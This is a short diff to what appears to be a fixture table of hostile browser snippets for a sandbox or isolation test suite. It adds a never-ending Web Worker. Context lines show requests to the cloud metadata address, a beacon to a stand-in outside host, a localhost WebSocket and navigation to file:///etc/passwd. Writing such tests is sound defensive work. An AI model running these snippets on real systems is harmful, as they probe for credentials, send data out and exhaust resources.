@@ -45,6 +45,7 @@ document.documentElement.requestFullscreen?.().catch(() => {})`,
 new Image().src = 'http://169.254.169.254/latest/meta-data'
 navigator.sendBeacon('http://elsewhere.example/', 'x')
 new WebSocket('ws://127.0.0.1:9/').onerror = () => {}`,
+  'has a worker that never ends': `new Worker(URL.createObjectURL(new Blob(['for (;;) {}'])))`,
   'leads to a file': 'location.href = "file:///etc/passwd"',
 }
 
